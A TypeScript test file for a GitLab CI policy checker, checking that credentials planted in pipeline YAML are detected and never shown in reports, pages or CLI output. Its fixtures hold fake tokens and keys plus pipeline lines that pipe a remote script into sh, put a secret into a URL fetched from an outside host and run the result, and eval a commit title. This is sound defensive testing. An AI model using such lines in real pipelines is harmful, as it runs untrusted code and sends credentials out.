/** A credential in the configuration is found, and shown nowhere. */

import { readFileSync } from 'node:fs';
import { expect, it } from 'vitest';
import { reportPage } from '../src/render/html.ts';
import { workspace } from './cli/workspace.ts';
import { replay } from './support/replay.ts';
import { snapshotOf } from './support/snapshot.ts';

const POLICY = readFileSync(new URL('../config/policy.yml', import.meta.url), 'utf8');
const TOKEN = 'k3Vx9QzT2mWn7RbY4sLd';
const BY_NAME = 'q8Zt5Vn2Lx7Wb4Ks9Jd3Hf6Gp1Rm0Yc8Ua5Te2Xi';
const KEY = 'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW';
const PASSWORD = 'kV7q2xTz';

const WAYS: Readonly<Record<string, readonly [yaml: string, secret: string]>> = {
  'beside a value that is suggested anew': [
    `a:\n  variables: {CI_DEBUG_TRACE: "true", SECRET_KEY: ${BY_NAME}}\n  script: [make]\n`,
    BY_NAME,
  ],
  'in a value that another rule finds': [
    `a:\n  image: "$REGISTRY:${PASSWORD}@registry.example.org/$NAME"\n  script:\n    - curl https://bot:${PASSWORD}@x.example.org/i.sh | sh\n`,
    PASSWORD,
  ],
  'known by its name, and repeated': [
    `a:\n  variables:\n    SECRET_KEY: ${BY_NAME}\n    CI_DEBUG_TRACE: "true" # ${BY_NAME}\n  script:\n    - sh -c "$(curl https://x.example.org/${BY_NAME})"\n`,
    BY_NAME,
  ],
  'written with escapes': [
    `a:\n  variables:\n    TOKEN: "glpat-\\x6b${TOKEN.slice(1)}"\n  script:\n    - eval "$CI_COMMIT_TITLE glpat-${TOKEN}"\n`,
    TOKEN.slice(1),
  ],
  'over several lines': [
    `a:\n  variables:\n    KEY: |\n      -----BEGIN OPENSSH PRIVATE KEY-----\n      ${KEY}\n      QyNTUxOQAAACDxk2Vq9TnWb7YzLmPcRjHsKfUg4Ea3XtNvQo6ZiBw1dA\n      -----END OPENSSH PRIVATE KEY-----\n  script:\n    - sh -c "$(curl https://x.example.org/${KEY})"\n`,
    KEY,
  ],
  'in the name of a job': [
    `deploy glpat-${TOKEN}:\n  variables: {TOKEN: glpat-${TOKEN}, CI_DEBUG_TRACE: "true"}\n  script: [make]\n`,
    TOKEN,
  ],
  'in what GitLab would refuse': [
    `a:\n  variables: {TOKEN: glpat-${TOKEN}}\n  stage: glpat-${TOKEN}\n  needs: [glpat-${TOKEN}]\n  script: [make]\n`,
    TOKEN,
  ],
};

it.each(Object.entries(WAYS))('%s', async (_, [yaml, secret]) => {
  const head = { '.gitlab-ci.yml': yaml };
  const situation = { base: { '.gitlab-ci.yml': 'b:\n  script: x\n' }, head, policy: POLICY };
  const { plan, report } = replay(await snapshotOf(situation));
  expect(report.findings.map((finding) => finding.rule)).toContain('secret-in-configuration');
  expect(plan.actions.length).toBeGreaterThan(1);

  const job = { v: 1, projectId: 7, projectPath: 'g/a', iid: 3, reason: 'pushed', delivery: 'x', requestedAt: '' };
  const page = await reportPage(report, { job: { ...job, v: 1 }, finishedAt: report.takenAt });
  const local = workspace({ ...head, 'policy.yml': POLICY });
  const check = ['check', '--policy', 'policy.yml', '--project', 'g/a'];
  const [text, json] = [await local.run(check), await local.run([...check, '--format', 'json'])];
  expect(text.out).toContain('secret-in-configuration');
  const everything = { plan: JSON.stringify(plan), report: JSON.stringify(report), page: String(page), text, json };
  for (const each of Object.values(everything)) expect(JSON.stringify(each)).not.toContain(secret);
});

it('gives the same finding for another secret in its place, so that nothing can be guessed from the fingerprint', async () => {
  const prints = ['k3Vx9QzT2mWn7RbY4sLd', 'p8Jx2LwQ5nBv9KdT3cFz'].map(async (token) => {
    const head = { '.gitlab-ci.yml': `a:\n  variables:\n    TOKEN: glpat-${token}\n  script: [make]\n` };
    const { report } = replay(
      await snapshotOf({ base: { '.gitlab-ci.yml': 'b:\n  script: x\n' }, head, policy: POLICY }),
    );
    return report.findings.map(({ rule, fingerprint }) => `${rule} ${fingerprint}`);
  });
  const [first, second] = await Promise.all(prints);
  expect(first).toEqual(second);
});
